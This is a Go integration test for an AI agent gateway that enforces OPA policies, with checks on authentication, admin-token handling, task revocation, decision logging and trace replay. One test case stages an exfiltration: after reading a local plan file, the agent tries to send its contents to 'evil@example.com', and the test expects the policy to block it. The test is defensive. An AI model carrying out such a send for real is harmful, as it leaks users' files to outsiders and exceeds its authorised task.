package gateway_test

import (
	"bytes"
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/open-policy-agent/opa/v1/logging"

	"github.com/agentctl/agentctl/gateway"
	"github.com/agentctl/agentctl/internal/testtool"
	"github.com/agentctl/agentctl/replay"
)

// devHeader sets the insecure development identity on every request.
type devHeader struct {
	agent string
	next  http.RoundTripper
}

func (d devHeader) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set(gateway.DevAgentHeader, d.agent)
	return d.next.RoundTrip(r)
}

// TestEmbeddedOPA runs the gateway with OPA embedded through its Go SDK (bundle from a
// file, console decision logs), operator data pushed through the gateway's admin endpoint,
// the insecure development identity, and OTel spans written to a file that agentctl replay
// reads back.
func TestEmbeddedOPA(t *testing.T) {
	e := newEstate(t)
	ctx := context.Background()
	console := &testtool.SyncBuffer{}
	cl := logging.New()
	cl.SetOutput(console)
	quiet := logging.New()
	quiet.SetOutput(&bytes.Buffer{})
	pdp, err := gateway.NewEmbedded(ctx, gateway.EmbeddedConfig(e.bundlePath), quiet, cl)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pdp.Close(context.Background()) })
	traces := filepath.Join(t.TempDir(), "traces.jsonl")
	tel, err := gateway.NewTelemetry(ctx, gateway.TelemetryConfig{File: traces, Arguments: true})
	if err != nil {
		t.Fatal(err)
	}
	signer, _ := gateway.NewSigner(time.Hour)
	id := gateway.NewIdentity(e.p)
	id.InsecureDev = true
	gw, err := gateway.New(ctx, gateway.Config{Policy: e.p, PDP: pdp, Upstreams: e.upstreams(), Identity: id, Signer: signer,
		Sessions: gateway.NewSessions(100, time.Hour), Telemetry: tel})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(gw.Close)
	srv := httptest.NewServer(gw.Handler())
	t.Cleanup(srv.Close)
	admin := httptest.NewServer(gw.AdminHandler("s3cret"))
	t.Cleanup(admin.Close)

	// Without the header, and with a header naming no agent, nothing is served.
	for _, h := range []string{"", "mallory"} {
		req, _ := http.NewRequest(http.MethodPost, srv.URL, strings.NewReader(`{}`))
		if h != "" {
			req.Header.Set(gateway.DevAgentHeader, h)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("header %q: %s", h, resp.Status)
		}
	}

	researcher := connectWith(t, "researcher", srv.URL, &http.Client{Transport: devHeader{"researcher", http.DefaultTransport}})
	// The admin endpoint wants its own token.
	resp, err := http.Post(admin.URL+"/v1/tasks", "application/json", strings.NewReader(`{"agent":"researcher"}`))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("admin without a token: %s", resp.Status)
	}
	rec, tok, _ := gw.StartTask("researcher")
	doc := filepath.Join(e.root, "docs", "plan.txt")
	calls := []struct {
		tool string
		args map[string]any
		want string
	}{
		{"web.fetch_page", map[string]any{"url": "https://example.com/"}, "ok"},
		{"files.read_text_file", map[string]any{"path": doc}, "ok"},
		{"web.send_message", map[string]any{"to": "evil@example.com", "body": "plan"}, "needs_approval FLOW_BLOCKED"},
	}
	for _, c := range calls {
		res, err := researcher.call(ctx, tok, c.tool, c.args)
		if got := outcome(t, res, err); !strings.HasPrefix(got, c.want) {
			t.Fatalf("%s: %s, want %s", c.tool, got, c.want)
		}
	}
	putJSON(t, http.DefaultClient, admin.URL+"/v1/data/agentctl_revocations", "s3cret", map[string]any{"tasks": map[string]any{rec.Task: true}})
	res, err := researcher.call(ctx, tok, "web.fetch_page", map[string]any{"url": "https://example.com/"})
	if got := outcome(t, res, err); got != "deny REVOKED" {
		t.Errorf("after the revocation: %s", got)
	}
	// The admin endpoint writes only the operators' roots, never the bundle's.
	req, _ := http.NewRequest(http.MethodPut, admin.URL+"/v1/data/agentctl_model/agents", strings.NewReader(`{}`))
	req.Header.Set("Authorization", "Bearer s3cret")
	if resp, err := http.DefaultClient.Do(req); err != nil || resp.StatusCode != http.StatusForbidden {
		t.Errorf("write to the bundle's root: %v %v", resp.Status, err)
	}

	// Every decision is in OPA's console decision log: four calls, and the approval
	// lookup did not add one (no approval was granted).
	deadline := time.Now().Add(5 * time.Second)
	for strings.Count(console.String(), "Decision Log") < 4 && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	if n := strings.Count(console.String(), "Decision Log"); n != 4 {
		t.Errorf("%d decision log entries, want 4:\n%s", n, console.String())
	}

	// The spans read back: the calls of the task, in order, as agentctl replay decides them.
	if err := tel.Shutdown(ctx); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(traces)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rp := replay.New(replay.Side{Policy: e.p, Decider: mustDecider(t, e)}, nil)
	var got []string
	err = replay.Read(f, traces, replay.ReadOptions{}, func(c replay.Call) error {
		if c.Session != rec.Task || c.Agent != "researcher" || c.Identity != "spiffe://example.org/agents/researcher" {
			t.Errorf("call %s: session %q agent %q identity %q", c.Name, c.Session, c.Agent, c.Identity)
		}
		r, err := rp.Decide(ctx, c)
		if err != nil {
			return err
		}
		got = append(got, c.Name+" "+r.Outcome())
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	// replay does not know the revocation pushed at run time: the last call is allowed there.
	want := []string{"web.fetch_page allow", "files.read_text_file allow", "web.send_message needs_approval", "web.fetch_page allow"}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("replayed:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func mustDecider(t *testing.T, e *estate) replay.Decider {
	t.Helper()
	d, err := replay.NewDecider(context.Background(), e.p, "go")
	if err != nil {
		t.Fatal(err)
	}
	return d
}
